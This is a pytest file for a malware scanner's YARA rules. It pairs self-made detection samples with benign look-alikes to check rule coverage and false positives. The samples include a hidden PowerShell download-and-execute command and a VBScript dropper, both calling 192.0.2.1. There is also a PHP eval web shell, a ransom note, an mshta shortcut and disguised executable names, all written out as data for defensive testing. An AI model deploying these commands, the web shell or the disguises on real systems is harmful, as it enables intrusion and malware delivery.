"""Each rule of ours on a self-made positive and on honest files that come close. Nothing here can run or harm."""

import base64
from pathlib import Path

import pytest
import yara_x

import anshin.engine.rules
from anshin.engine.rules.compile import GLOBALS
from anshin.engine.verdict import Status
from tests.engine.samples import eicar, minimal_pe, reason_codes, zipped

FOLDER = Path(anshin.engine.rules.__file__).parent / "yara"
SECRET = base64.b64encode("echo nothing happens here at all, really nothing, it is a test".encode("utf-16-le")).decode()
ONION = "abcdefghijklmnop" * 3 + "abcdefgh" + ".onion"
LNK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60)

HIDDEN_DOWNLOAD = (
    "power" + "shell -nop -w hidden -ep bypass -c "
    '"IEX (New-Object Net.WebClient).Down' + "loadString('http://192.0.2.1/a')\""
)
DROPPER = (
    'Set h = CreateObject("MSXML2.XMLHTTP")\nh.open "GET", "http://192.0.2.1/a", False\nh.send\n'
    'Set s = CreateObject("ADODB.Stream")\ns.Write h.responseBody\ns.Save' + 'ToFile "a.exe"\n'
    'CreateObject("WScript.Shell").Run "a.exe"\n'
)
NOTE = (
    "All your files have been encrypted with a strong algorithm.\nTo get the decryption key, pay 1 Bitcoin.\n"
    f"Visit http://{ONION}/pay with Tor Browser.\n"
)

POSITIVE = {
    "eicar": (eicar(), "x"),
    "program_posing_as_document": (minimal_pe(), "請求書.pdf.exe"),
    "script_posing_as_document": (zipped({"photo.jpg.js": b"var a = 1;"}), "a.zip"),
    "name_turned_around": (zipped({"invoice\u202efdp.exe": minimal_pe()}), "a.zip"),
    "powershell_hidden_download": (HIDDEN_DOWNLOAD.encode(), "a.bat"),
    "powershell_hidden_encoded": (f"powershell.exe -w hidden -enc {SECRET}".encode(), "a.bat"),
    "script_dropper": (DROPPER.encode(), "a.vbs"),
    "php_web_shell": (b"<?php @ev" + b"al($_POST['c']); ?>", "a.php"),
    "ransom_note": (NOTE.encode(), "README.txt"),
    "shortcut_to_encoded_powershell": (LNK + f"powershell -e {SECRET}".encode("utf-16-le"), "a.lnk"),
    "shortcut_that_downloads": (LNK + "mshta http://192.0.2.1/a".encode("utf-16-le"), "a.lnk"),
    "habit_encoded_powershell": (f"powershell -EncodedCommand {SECRET}".encode(), "a.cmd"),
    "habit_program_with_document_ending": (minimal_pe(), "a.pdf"),
}
HONEST = {
    "build script that starts its own interpreter": (
        (
            b"from setuptools import setup\nimport subprocess, sys\ndef build():\n    setup(name='x')\n"
            b"def main():\n    subprocess.run([sys.executable, 'setup.py', 'build_ext', '--inplace'])\n"
        ),
        "build.py",
    ),
    "machine code that asks the processor": (
        (
            b"import ctypes\nalloc = ctypes.windll.kernel32.VirtualAlloc\n"
            b"protect = ctypes.windll.kernel32.VirtualProtect\n"
            b"address = alloc(None, 4096, 0x1000, 0x4)\nctypes.memmove(address, b'\\x0f\\xa2\\xc3', 3)\n"
            b"protect(address, 4096, 0x10, ctypes.byref(old))\nprint(ctypes.CFUNCTYPE(ctypes.c_uint32)(address)())\n"
        ),
        "cpu.py",
    ),
    "text that quotes the test string": (b"The string is " + eicar() + b" as you know", "a.txt"),
    "test string with a word behind it": (eicar() + b" x", "a.txt"),
    "test string with too much behind it": (eicar() + b" " * 61, "a.txt"),
    "program": (minimal_pe(), "setup.exe"),
    "program with dots": (minimal_pe(), "tool.v2.1.exe"),
    "minified script in an archive": (zipped({"jquery.min.js": b"var a=1;"}), "a.zip"),
    "administration": (b"powershell -NoProfile -ExecutionPolicy Bypass -File install.ps1", "a.bat"),
    "download in the open": (b'powershell -c "iwr https://example.com/x -OutFile x"', "a.bat"),
    "hidden helper": (b"powershell -WindowStyle Hidden -File tray.ps1", "a.bat"),
    "web request in VBScript": (b'Set h = CreateObject("MSXML2.XMLHTTP")\nh.open "GET", u\nMsgBox h.status', "a.vbs"),
    "honest PHP": (b"<?php $id = (int)$_GET['id']; echo htmlspecialchars($_POST['name']); eval($code);", "a.php"),
    "security advice": (
        b"If your files have been encrypted, do not pay the ransom. Recover files from backup.",
        "a.txt",
    ),
    "onion address": (f"Our mirror: http://{ONION}/".encode(), "a.txt"),
    "shortcut": (LNK + "C:\\Program Files\\App\\app.exe https://example.com".encode("utf-16-le"), "a.lnk"),
}


def rule_names() -> set[str]:
    names = set()
    for path in FOLDER.glob("*.yar"):
        names |= {line.split()[1] for line in path.read_text().splitlines() if line.startswith("rule ")}
    return names


def test_every_rule_has_a_positive():
    assert set(POSITIVE) == rule_names()


@pytest.mark.parametrize("rule", POSITIVE)
def test_positive_is_found(judge, rule):
    data, name = POSITIVE[rule]
    found = judge(data, name=name)
    assert f"rule.{rule}" in reason_codes(found)
    if rule.startswith("habit_"):
        assert found.status is Status.CLEAN
    else:
        assert found.status in {Status.MALICIOUS, Status.SUSPICIOUS}


@pytest.mark.parametrize("what", HONEST)
def test_honest_files_stay_clean(judge, what):
    data, name = HONEST[what]
    found = judge(data, name=name)
    assert found.status is Status.CLEAN
    assert not [r for r in found.reasons if r.code.startswith("rule.")]


@pytest.mark.parametrize("ending", [b"", b"\r\n", b" \t\n\r\x1a", b" " * 60])
def test_the_test_file_may_end_in_white_space(judge, ending):
    found = judge(eicar() + ending)
    assert found.status is Status.MALICIOUS
    assert found.score == 1.0


def test_every_rule_says_who_when_why_and_what_in_both_languages():
    for path in sorted(FOLDER.glob("*.yar")):
        compiler = yara_x.Compiler(error_on_slow_pattern=True)
        for name, value in GLOBALS.items():
            compiler.define_global(name, value)
        compiler.add_source(path.read_text(), origin=path.name)
        for rule in compiler.build():
            meta = dict(rule.metadata)
            for key in ("author", "date", "reference", "ja", "en"):
                assert meta.get(key), (rule.identifier, key)
            assert 0 < meta["weight"] <= 1
            assert rule.identifier == "eicar" or meta["attack"].startswith("T1")
            assert meta["ja"].endswith("。") or meta["ja"].endswith("）。")
            assert meta["en"].endswith(".")
